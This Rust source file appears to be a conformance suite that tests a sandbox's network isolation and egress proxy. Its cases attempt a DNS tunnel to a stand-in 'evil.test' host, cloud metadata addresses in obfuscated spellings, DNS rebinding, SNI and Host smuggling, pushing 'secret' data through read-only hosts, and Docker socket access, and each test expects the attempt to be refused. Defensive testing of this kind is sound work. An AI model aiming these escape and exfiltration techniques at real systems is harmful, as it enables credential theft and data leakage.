//! The network: every way out that is not the proxy, and every way to talk the proxy into one.

use std::net::UdpSocket;
use std::sync::Arc;

use super::attack;
use super::stage::{Stage, bring_probe, connect, dial, probe, say, to_proxy};
use crate::conformance::{Case, CaseResult, Ctx, Failed, ensure, ensure_eq, run};
use crate::egress::{Reason, address};
use crate::{Capabilities, ExecEvent, ExecRequest, NetworkMode, NetworkSpec, Sandbox, SandboxSpec};

fn has_egress(c: &Capabilities) -> bool {
    c.network_modes.contains(&NetworkMode::Isolated)
}

pub fn cases() -> Vec<Case> {
    let cases = vec![
        attack!(the_rate_is_kept, [23], "More of the network than it may use, by two connections at once",
            Harmless by "proxy: one bucket for a sandbox"),
        attack!(datagrams_and_lookups, [26], "A DNS tunnel, DNS over HTTPS, QUIC, names that carry data",
            Denied by "network namespace; proxy: allow-list, no lookup of a refused name"),
        attack!(closed_addresses, [27], "169.254.169.254, loopback, private and odd spellings, by name, number, IPv6 and NAT64",
            Denied by "proxy: addresses"),
        attack!(a_rebound_name, [27], "A name that resolves to a closed address the second time",
            Denied by "proxy: resolved once, judged, pinned"),
        attack!(other_names_and_ports, [28], "Another name in SNI or Host than was asked for, another port",
            Denied by "proxy: TLS and HTTP"),
        attack!(an_allowed_host_takes_nothing, [29], "Data pushed out through a host that is open for reading",
            Denied by "proxy: read-only hosts"),
        attack!(the_hosts_loopback, [30], "The host's loopback and its own addresses, Docker's API",
            Denied by "network namespace; proxy: addresses"),
        attack!(a_sibling, [30], "A sibling sandbox by TCP, by an abstract socket, by the proxy",
            Denied by "network namespace; proxy: addresses"),
        attack!(no_network_at_all, [30], "Anything at all in network mode `none`", Denied by "network namespace; proxy: mode"),
    ];
    cases.into_iter().map(|case| Case { applies: has_egress, ..case }).collect()
}

async fn networked(ctx: &Ctx, network: NetworkSpec) -> Result<Arc<dyn Sandbox>, Failed> {
    let sandbox = ctx.sandbox_with(&SandboxSpec { network, ..ctx.spec.clone() }).await?;
    bring_probe(&sandbox).await?;
    Ok(sandbox)
}

fn bridge() -> NetworkSpec {
    NetworkSpec { mode: NetworkMode::Bridge, ..Default::default() }
}

/// The proxy refuses a tunnel, for this reason.
async fn refused(stage: &Stage, sandbox: &Arc<dyn Sandbox>, authority: &str, why: &[Reason]) -> CaseResult {
    ensure!(connect(sandbox, authority).await?.is_err(), "{authority} was reached");
    let host = authority.rsplit_once(':').map_or(authority, |(host, _)| host);
    // What is recorded is the host as it is understood: brackets and spellings may differ.
    let host = host.trim_matches(['[', ']']);
    let seen = stage.reasons(sandbox, host);
    ensure!(seen.last().is_some_and(|r| why.contains(r)), "{authority}: {seen:?}, not {why:?}");
    Ok(())
}

async fn the_rate_is_kept(ctx: &Ctx) -> CaseResult {
    const RATE: u64 = 64 << 10;
    const BODY: usize = 128 << 10;
    let site = ctx.stage()?.origin("rate.test").await?;
    let mut spec = SandboxSpec { network: site.allowed(""), ..ctx.spec.clone() };
    spec.limits.network_bytes_per_s = Some(RATE);
    let sandbox = ctx.sandbox_with(&spec).await?;
    bring_probe(&sandbox).await?;
    let (host, body) = (site.authority(), "x".repeat(BODY));
    let post = format!(
        "POST http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}\r\n\r\n",
        BODY + 4
    );
    let (one, other) = (to_proxy(&sandbox).await?, to_proxy(&sandbox).await?);
    let begun = std::time::Instant::now();
    let (one, other) = tokio::join!(say(one, &post), say(other, &post));
    ensure!(one.ends_with("hello") && other.ends_with("hello"), "not answered: {one:?}, {other:?}");
    // It takes four seconds, less what may go out at once. A slow machine takes longer.
    let took = begun.elapsed().as_secs_f64();
    ensure!(took >= 2.5, "{} bytes in {took} s", 2 * BODY);
    let sent = sandbox.stats().await?.network_tx_bytes;
    ensure!(sent >= 2 * BODY as u64, "only {sent} bytes are counted");
    Ok(())
}

async fn datagrams_and_lookups(ctx: &Ctx) -> CaseResult {
    let stage = ctx.stage()?;
    let sandbox = networked(ctx, NetworkSpec::default()).await?;
    let host = UdpSocket::bind("0.0.0.0:0")?;
    host.set_nonblocking(true)?;
    let port = host.local_addr()?.port().to_string();
    let mut targets = vec![("127.0.0.1".to_string(), port.clone())];
    for own in address::host_addresses().unwrap_or_default() {
        let own = if own.is_ipv6() { format!("[{own}]") } else { own.to_string() };
        targets.push((own, port.clone()));
    }
    for (address, port) in [("8.8.8.8", "53"), ("8.8.8.8", "443"), ("[2001:4860:4860::8888]", "53")] {
        targets.push((address.to_string(), port.to_string()));
    }
    for (address, port) in &targets {
        let said = probe(&sandbox, &["udp", address, port]).await?;
        ensure!(!said.contains("answered"), "{address}:{port} answered");
        ensure!(
            said.starts_with("refused") || ["127.0.0.1", "[::1]"].contains(&address.as_str()),
            "{address}:{port}: {said}"
        );
    }
    ensure!(host.recv_from(&mut [0; 16]).is_err(), "a datagram reached the host");
    // UDP by the proxy.
    let answer = say(to_proxy(&sandbox).await?, [5, 1, 0, 5, 3, 0, 1, 8, 8, 8, 8, 0, 53]).await;
    ensure!(answer.as_bytes().starts_with(&[5, 0, 5, 7]), "SOCKS5 over UDP: {answer:?}");
    for doh in ["dns.google:443", "cloudflare-dns.com:443", "dns.quad9.net:443", "1.1.1.1:443", "8.8.8.8:853"]
    {
        refused(stage, &sandbox, doh, &[Reason::NotListed]).await?;
    }
    refused(stage, &sandbox, "c2VjcmV0.evil.test:443", &[Reason::NotListed]).await?;
    ensure!(!stage.was_looked_up("evil.test"), "a refused name was looked up");
    Ok(())
}

async fn closed_addresses(ctx: &Ctx) -> CaseResult {
    let stage = ctx.stage()?;
    stage.name("meta.test", &[&["169.254.169.254"]]);
    stage.name("lan.test", &[&["10.0.0.1", "::ffff:192.168.0.1", "fe80::1"]]);
    stage.name("nat.test", &[&["64:ff9b::a9fe:a9fe"]]);
    stage.name("home.test", &[&["127.0.0.1", "::1"]]);
    let names = ["meta.test", "lan.test", "nat.test", "home.test"];
    let allow = names.map(String::from).to_vec();
    let isolated = networked(ctx, NetworkSpec { allow, ..Default::default() }).await?;
    let open = networked(ctx, bridge()).await?;
    for name in names {
        for sandbox in [&isolated, &open] {
            refused(stage, sandbox, &format!("{name}:443"), &[Reason::ClosedAddress]).await?;
        }
    }
    for literal in ["169.254.169.254", "127.0.0.1", "10.0.0.1", "100.64.0.1", "168.63.129.16", "0.0.0.0"] {
        refused(stage, &isolated, &format!("{literal}:80"), &[Reason::NotListed]).await?;
        refused(stage, &open, &format!("{literal}:80"), &[Reason::ClosedAddress]).await?;
    }
    for odd in ["2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "127.1"] {
        for sandbox in [&isolated, &open] {
            refused(stage, sandbox, &format!("{odd}:80"), &[Reason::OddAddress]).await?;
        }
    }
    for v6 in
        ["[::1]", "[::ffff:169.254.169.254]", "[fd00:ec2::254]", "[fe80::1]", "[64:ff9b::7f00:1]", "[::]"]
    {
        refused(stage, &isolated, &format!("{v6}:80"), &[Reason::NotListed]).await?;
        refused(stage, &open, &format!("{v6}:80"), &[Reason::ClosedAddress]).await?;
    }
    Ok(())
}

async fn a_rebound_name(ctx: &Ctx) -> CaseResult {
    let stage = ctx.stage()?;
    let site = stage.origin("rebind.test").await?;
    stage.name("rebind.test", &[&["127.0.0.1"], &["169.254.169.254"]]);
    let sandbox = networked(ctx, site.allowed("")).await?;
    let get = format!("GET / HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n", site.authority());
    let first =
        connect(&sandbox, &site.authority()).await?.map_err(|e| Failed::new(format!("not reached: {e}")))?;
    ensure!(say(first, &get).await.ends_with("hello"), "the allowed host does not answer");
    refused(stage, &sandbox, &site.authority(), &[Reason::ClosedAddress]).await
}

/// The first message of a TLS client that names a host.
fn client_hello(name: &str) -> Result<Vec<u8>, Failed> {
    let bad = |e: &dyn std::fmt::Display| Failed::new(e.to_string());
    let config =
        rustls::ClientConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
            .with_safe_default_protocol_versions()
            .map_err(|e| bad(&e))?
            .with_root_certificates(rustls::RootCertStore::empty())
            .with_no_client_auth();
    let name = rustls::pki_types::ServerName::try_from(name.to_string()).map_err(|e| bad(&e))?;
    let mut client = rustls::ClientConnection::new(Arc::new(config), name).map_err(|e| bad(&e))?;
    let mut hello = Vec::new();
    client.write_tls(&mut hello)?;
    Ok(hello)
}

async fn other_names_and_ports(ctx: &Ctx) -> CaseResult {
    let stage = ctx.stage()?;
    let (open, read) = (stage.origin("open.test").await?, stage.origin("read.test").await?);
    let mut network = open.allowed("");
    network.allow.extend(read.allowed(":ro").allow);
    let sandbox = networked(ctx, network).await?;
    let reach = async |authority: String| {
        connect(&sandbox, &authority).await?.map_err(|e| Failed::new(format!("{authority}: {e}")))
    };
    // Another name in the handshake, to a host whose tunnel is open and to one that is terminated.
    for site in [&open, &read] {
        say(reach(site.authority()).await?, client_hello("evil.test")?).await;
        let seen = stage.reasons(&sandbox, &site.name);
        ensure!(seen.contains(&Reason::SniMismatch), "{}: {seen:?}", site.name);
        ensure_eq!(site.received(), "");
    }
    // The right name, and then another host in the request.
    let request = |host: &str| format!("GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    let tls = stage.tls(reach(read.authority()).await?, &read.name).await?;
    let answer = say(tls, request("evil.test")).await;
    ensure!(answer.starts_with("HTTP/1.1 421"), "{answer}");
    let answer = say(reach(read.authority()).await?, request("evil.test")).await;
    ensure!(answer.starts_with("HTTP/1.1 421"), "{answer}");
    let twice = format!(
        "GET / HTTP/1.1\r\nHost: {}\r\nHost: evil.test\r\nConnection: close\r\n\r\n",
        read.authority()
    );
    ensure!(
        say(reach(read.authority()).await?, twice).await.starts_with("HTTP/1.1 4"),
        "two hosts were taken"
    );
    ensure_eq!(read.received(), "");
    for port in [22, 25, 443] {
        refused(stage, &sandbox, &format!("open.test:{port}"), &[Reason::Port]).await?;
    }
    refused(stage, &sandbox, "github.com:22", &[Reason::Port]).await
}

async fn an_allowed_host_takes_nothing(ctx: &Ctx) -> CaseResult {
    let stage = ctx.stage()?;
    let site = stage.origin("read.test").await?;
    let sandbox = networked(ctx, site.allowed(":ro")).await?;
    let authority = site.authority();
    let send = async |line: &str, headers: &str, body: &str| -> Result<String, Failed> {
        let stream =
            connect(&sandbox, &authority).await?.map_err(|e| Failed::new(format!("{authority}: {e}")))?;
        let text =
            format!("{line} HTTP/1.1\r\nHost: {authority}\r\n{headers}Connection: close\r\n\r\n{body}");
        Ok(say(stream, text).await)
    };
    let answer = send("GET /ok", "", "").await?;
    ensure!(answer.ends_with("hello"), "the allowed host does not answer: {answer}");
    let before = site.received();
    for (line, headers, body) in [
        ("POST /gists", "Content-Length: 6\r\n", "secret"),
        ("PUT /package", "Content-Length: 6\r\n", "secret"),
        ("PATCH /x", "Content-Length: 6\r\n", "secret"),
        ("DELETE /x", "", ""),
        ("GET /x", "Content-Length: 6\r\n", "secret"),
        ("GET /x", "Transfer-Encoding: chunked\r\n", "6\r\nsecret\r\n0\r\n\r\n"),
        ("POST /repo/git-receive-pack", "Content-Length: 6\r\n", "secret"),
        ("GET /repo/info/refs?service=git-receive-pack", "", ""),
        ("POST /x/git-upload-pack", "Content-Type: text/plain\r\nContent-Length: 6\r\n", "secret"),
        ("CONNECT evil.test:443", "", ""),
        ("TRACE /x", "", ""),
    ] {
        let answer = send(line, headers, body).await?;
        ensure!(answer.starts_with("HTTP/1.1 4"), "{line}: {answer}");
    }
    ensure_eq!(site.received(), before);
    Ok(())
}

async fn the_hosts_loopback(ctx: &Ctx) -> CaseResult {
    let stage = ctx.stage()?;
    let service = stage.origin_everywhere("service.test").await?;
    let port = service.port.to_string();
    let sandbox = networked(ctx, NetworkSpec::default()).await?;
    let open = networked(ctx, bridge()).await?;
    let mut addresses = ["127.0.0.1", "127.9.9.9", "[::1]", "[::ffff:127.0.0.1]"].map(String::from).to_vec();
    for own in address::host_addresses().unwrap_or_default() {
        addresses.push(if own.is_ipv6() { format!("[{own}]") } else { own.to_string() });
    }
    let mut reached = 0;
    for address in addresses {
        let authority = format!("{address}:{port}");
        reached += usize::from(tokio::net::TcpStream::connect(&authority).await.is_ok());
        ensure!(dial(&sandbox, &["tcp", &address, &port]).await?.is_err(), "{authority} was reached");
        refused(stage, &open, &authority, &[Reason::ClosedAddress]).await?;
    }
    ensure!(reached > 1, "the host itself reaches {reached} of its addresses");
    for name in ["localhost", "host.docker.internal", "gateway.docker.internal"] {
        stage.name(name, &[&["127.0.0.1"]]);
        refused(stage, &sandbox, &format!("{name}:{port}"), &[Reason::NotListed]).await?;
        refused(stage, &open, &format!("{name}:{port}"), &[Reason::ClosedAddress]).await?;
    }
    for api in ["127.0.0.1:2375", "127.0.0.1:2376"] {
        refused(stage, &open, api, &[Reason::ClosedAddress]).await?;
    }
    for socket in ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"] {
        ensure!(dial(&sandbox, &["unix", socket]).await?.is_err(), "{socket} was reached");
    }
    ensure_eq!(service.received(), "");
    Ok(())
}

async fn a_sibling(ctx: &Ctx) -> CaseResult {
    let stage = ctx.stage()?;
    // At the same port of the host somebody listens too: who asks the proxy for one of them must not get to the other.
    let neighbour = stage.origin_everywhere("neighbour.test").await?;
    let port = neighbour.port.to_string();
    let victim = networked(ctx, NetworkSpec::default()).await?;
    let name = format!("sibling-{}", victim.id());
    let argv = [super::stage::PROBE, "probe", "listen", &port, &name];
    let mut listening = victim.exec(ExecRequest::new(argv)).await?;
    let first = listening.events.recv().await;
    ensure!(matches!(&first, Some(Ok(ExecEvent::Stdout(_)))), "nobody listens: {first:?}");
    // It can be reached from where it runs, and from nowhere else.
    let said =
        run(&victim, ExecRequest::new([super::stage::PROBE, "probe", "tcp", "127.0.0.1", &port])).await?.out;
    ensure_eq!(said, "connected\nsibling\n");
    let other = networked(ctx, bridge()).await?;
    for target in [vec!["tcp", "127.0.0.1", &port], vec!["unix", &format!("@{name}")]] {
        ensure!(dial(&other, &target).await?.is_err(), "{target:?} was reached");
    }
    for host in ["127.0.0.1", "sandbox", victim.id().as_str()] {
        stage.name(host, &[&["127.0.0.1"]]);
        refused(stage, &other, &format!("{host}:{port}"), &[Reason::ClosedAddress]).await?;
    }
    ensure_eq!(neighbour.received(), "");
    Ok(())
}

async fn no_network_at_all(ctx: &Ctx) -> CaseResult {
    let stage = ctx.stage()?;
    let site = stage.origin("site.test").await?;
    let network = NetworkSpec { mode: NetworkMode::None, ..site.allowed("") };
    let sandbox = networked(ctx, network).await?;
    // A provider may have no proxy at all here; one that serves Forkyard's own name serves no other.
    if to_proxy(&sandbox).await.is_ok() {
        refused(stage, &sandbox, &site.authority(), &[Reason::NoNetwork]).await?;
    }
    for target in [["tcp", "127.0.0.1", &site.port.to_string()], ["tcp", "8.8.8.8", "53"]] {
        ensure!(dial(&sandbox, &target).await?.is_err(), "{target:?} was reached");
    }
    let devices =
        sandbox.exec(ExecRequest::shell("tail -n +3 /proc/net/dev | cut -d: -f1")).await?.output().await?.1;
    let devices = String::from_utf8_lossy(&devices).into_owned();
    // Kernels may show tunnels of their own that lead nowhere; none is up.
    ensure!(devices.lines().map(str::trim).all(|d| d == "lo" || d.ends_with('0')), "{devices}");
    ensure_eq!(site.received(), "");
    Ok(())
}
